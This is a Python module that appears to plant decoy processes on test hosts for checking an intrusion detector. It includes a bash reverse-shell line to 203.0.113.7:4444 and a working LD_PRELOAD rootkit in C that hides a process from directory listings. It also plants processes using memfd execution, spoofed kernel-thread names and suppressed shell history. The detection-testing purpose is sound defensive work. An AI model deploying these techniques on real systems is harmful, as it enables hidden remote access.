"""Decoys that are processes, each on a host of its own."""

import decoys
from planted import CRITICAL, HIGH, LOW, MEDIUM, Table, Told
from range_box import program
from range_machines import BASH, DASH, PYTHON, Host

PROCESSES: Table[Told] = Table()
_PAUSE = "import time; time.sleep(100000)"
_NAME_ITSELF = f"open('/proc/self/comm', 'w').write('kworker/0:1'); {_PAUSE}"
_LOAD = f"import ctypes, sys; kept = ctypes.CDLL(sys.argv[1]); {_PAUSE}"
_TRACE = f"""
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
assert libc.ptrace(0x4206, int(sys.argv[1]), 0, 0) == 0, ctypes.get_errno()
{_PAUSE}
"""
_BPF = f"""
import ctypes, struct
code = struct.pack("<BBhi", 0xb7, 0, 0, 0) + struct.pack("<BBhi", 0x95, 0, 0, 0)
code, name = ctypes.create_string_buffer(code), ctypes.create_string_buffer(b"GPL")
at = [ctypes.addressof(each) for each in (code, name)]
asked = ctypes.create_string_buffer(struct.pack("<IIQQIIQII", 1, 2, *at, 0, 0, 0, 0, 0))
system = ctypes.CDLL(None, use_errno=True).syscall
assert system(321, 5, asked, 48) > 0, ctypes.get_errno()
{_PAUSE}
"""
_RING = f"""
import ctypes
made = ctypes.create_string_buffer(120)
assert ctypes.CDLL(None, use_errno=True).syscall(425, 8, made) > 0, ctypes.get_errno()
{_PAUSE}
"""
_HOOK = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
static char hidden[32];
__attribute__((constructor)) static void learn(void) {
  FILE *from = fopen("/usr/lib/.pid", "r");
  if (!from) return;
  if (fgets(hidden, sizeof hidden, from)) hidden[strcspn(hidden, "\n")] = 0;
  fclose(from);
}
struct dirent *readdir(DIR *folder) {
  struct dirent *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir"), *entry;
  while ((entry = real(folder)) && hidden[0] && !strcmp(entry->d_name, hidden)) ;
  return entry;
}
struct dirent64 *readdir64(DIR *folder) {
  struct dirent64 *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir64"), *entry;
  while ((entry = real(folder)) && hidden[0] && !strcmp(entry->d_name, hidden)) ;
  return entry;
}
"""
_SERVE = 'setpriv --reuid=33 --regid=33 --clear-groups "$@" <>/run/never >/dev/null & wait'
_NOBODY = ("--reuid=65534", "--regid=65534", "--clear-groups")


def _python(host: Host, path: str, code: str, *arguments: str) -> int:
    """A copy of python at a path, which runs a file."""
    host.write("/srv/code.py", code)
    return host.plant(host.copy(PYTHON, path), "/srv/code.py", *arguments)


@PROCESSES.plants(Told("HOST-EXE-001", HIGH, "/dev/shm/agent"))
def deleted_in_scratch(host: Host) -> None:
    """A program in /dev/shm that removed its own file."""
    host.plant(host.copy("sleep", "/dev/shm/agent"), decoys.FOREVER)
    host.path("/dev/shm/agent").unlink()


@PROCESSES.plants(Told("HOST-PROC-001", CRITICAL, "/tmp/w", slam_dunk=True))
def kernel_title(host: Host) -> None:
    """A program in /tmp whose title is that of a kernel thread."""
    host.plant(host.copy("sleep", "/tmp/w"), decoys.FOREVER, argv0=decoys.KERNEL_NAME)


@PROCESSES.plants(Told("HOST-PROC-001", CRITICAL, "/tmp/w", slam_dunk=True))
def kernel_comm(host: Host) -> None:
    """A program in /tmp that gave itself the name kworker/0:1."""
    _python(host, "/tmp/w", _NAME_ITSELF)


@PROCESSES.plants(Told("HOST-EXE-002", HIGH, "/memfd:payload"))
def from_memory(host: Host) -> None:
    """A program that runs from a memfd."""
    words = ("-c", decoys.MEMFD, program("sleep"), "payload", "payload", decoys.FOREVER)
    host.plant(PYTHON, *words, becomes="/memfd:payload (deleted)")


@PROCESSES.plants(Told("HOST-PROC-002", CRITICAL, "hidden process", slam_dunk=True))
def mount_over_proc(host: Host) -> None:
    """A process with an empty folder mounted over its own in /proc."""
    pid = host.plant(host.copy("sleep", "/opt/tool/worker"), decoys.FOREVER)
    host.shell('mkdir /mnt/empty; mount --bind /mnt/empty "/proc/$1"', str(pid))


@PROCESSES.plants(Told("HOST-EXE-003", HIGH, "/opt/tool/worker"))
def mining_command(host: Host) -> None:
    """A program with the arguments of a miner."""
    host.shell("mkfifo /run/never")
    waiting = ("-c", "read _ <>/run/never")
    host.plant(host.copy("dash", "/opt/tool/worker"), *waiting, *decoys.MINING)


@PROCESSES.plants(Told("HOST-LIB-002", HIGH, "/opt/tool/preloaded"))
def preload_variable(host: Host) -> None:
    """A program that was started with LD_PRELOAD=/tmp/x.so."""
    copied = host.copy("sleep", "/opt/tool/preloaded")
    host.plant(program("env"), "LD_PRELOAD=/tmp/x.so", copied, decoys.FOREVER, becomes=copied)


@PROCESSES.plants(Told("HOST-PROC-004", HIGH, "/var/tmp/x"))
def daemon_name(host: Host) -> None:
    """A program in /var/tmp that calls itself /usr/sbin/sshd."""
    host.plant(host.copy("sleep", "/var/tmp/x"), decoys.FOREVER, argv0="/usr/sbin/sshd")


@PROCESSES.plants(Told("HOST-EXE-004", HIGH, "/var/lib/.agent/run"))
def hidden_folder(host: Host) -> None:
    """A program in a hidden folder of /var/lib."""
    host.plant(host.copy("sleep", "/var/lib/.agent/run"), decoys.FOREVER)


@PROCESSES.plants(Told("HOST-EXE-004", HIGH, "/home/ada/.../run"))
def folder_of_dots(host: Host) -> None:
    """A program in a folder called "..." of a home."""
    host.plant(host.copy("sleep", "/home/ada/.../run"), decoys.FOREVER)


@PROCESSES.plants(Told("HOST-MAP-001", HIGH, "/usr/sbin/cron"))
def library_in_scratch(host: Host) -> None:
    """A daemon that has loaded a library from /tmp, with no variable that says so."""
    _python(host, "/usr/sbin/cron", _LOAD, host.library("/tmp/libx.so"))


@PROCESSES.plants(Told("HOST-MAP-001", HIGH, "/usr/sbin/cron"))
def library_in_home(host: Host) -> None:
    """The same from a home: what cron maps from there can read passwords."""
    _python(host, "/usr/sbin/cron", _LOAD, host.library("/home/ada/libx.so"))


@PROCESSES.plants(Told("HOST-PROC-006", HIGH, DASH))
def service_shell(host: Host) -> None:
    """An interactive shell of www-data below php-fpm."""
    host.shell("mkfifo -m 666 /run/never")
    server = host.copy("dash", "/usr/sbin/php-fpm8.2")
    host.plant(server, "-c", _SERVE, server, DASH, "-i")
    host.wait(lambda: bool(host.running("dash -i")))


@PROCESSES.plants(Told("HOST-PROC-007", MEDIUM, BASH))
def hidden_history(host: Host) -> None:
    """An interactive shell that was started with HISTFILE=/dev/null."""
    host.shell("mkfifo /run/never")
    line = "HISTFILE=/dev/null exec bash -i <>/run/never"
    host.plant(DASH, host.run_file("/srv/shell", line), becomes=BASH)


@PROCESSES.plants(Told("HOST-PROC-005", HIGH, BASH))
def one_liner(host: Host) -> None:
    """A command line of bash that hands a shell to a connection."""
    line = "sleep 100000; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
    host.plant(BASH, "-c", line)


@PROCESSES.plants(Told("HOST-PROC-008", HIGH, "/tmp/t"))
def odd_tracer(host: Host) -> None:
    """A program in /tmp that traces a shell."""
    host.shell("mkfifo /run/never")
    traced = host.plant(DASH, "-c", "read _ <>/run/never")
    _python(host, "/tmp/t", _TRACE, str(traced))


@PROCESSES.plants(Told("HOST-PROC-010", HIGH, "/var/lib/misc/run"))
def setuid_process(host: Host) -> None:
    """A setuid program of root's in /var/lib that somebody else started."""
    copied = host.copy("sleep", "/var/lib/misc/run", 0o4755)
    words = ("--reuid=1000", "--regid=1000", "--clear-groups", copied, decoys.FOREVER)
    host.plant(program("setpriv"), *words, becomes=copied)


@PROCESSES.plants(Told("HOST-PROC-009", MEDIUM, "/opt/tool/reader"))
def odd_capabilities(host: Host) -> None:
    """A program in /opt, not root's, that may trace everybody."""
    copied = host.copy("sleep", "/opt/tool/reader")
    rights = ("--inh-caps=+sys_ptrace", "--ambient-caps=+sys_ptrace")
    host.plant(program("setpriv"), *_NOBODY, *rights, copied, decoys.FOREVER, becomes=copied)


@PROCESSES.plants(Told("HOST-PROC-011", MEDIUM, "/opt/tool/watcher"))
def bpf_holder(host: Host) -> None:
    """A program in /opt that loaded a program of bpf and holds it."""
    _python(host, "/opt/tool/watcher", _BPF)


@PROCESSES.plants(Told("HOST-PROC-012", LOW, "/opt/tool/worker"))
def io_uring(host: Host) -> None:
    """A program in /opt that works through an io_uring."""
    _python(host, "/opt/tool/worker", _RING)


@PROCESSES.plants(
    Told("HOST-LIB-001", CRITICAL, "/etc/ld.so.preload"),
    Told("HOST-PROC-003", CRITICAL, "hidden process"),
    needs=("gcc",),
)
def hidden_by_library(host: Host) -> None:
    """A process that a library leaves out of every listing; its child names it."""
    host.write("/srv/hook.c", _HOOK)
    host.shell("gcc -shared -fPIC -o /usr/lib/libhook.so /srv/hook.c -ldl")
    pid = host.plant(DASH, "-c", "sleep 100000; :")
    host.wait(lambda: bool(host.running("sleep 100000")))
    host.write("/usr/lib/.pid", f"{pid}\n")
    host.write("/etc/ld.so.preload", "/usr/lib/libhook.so\n")
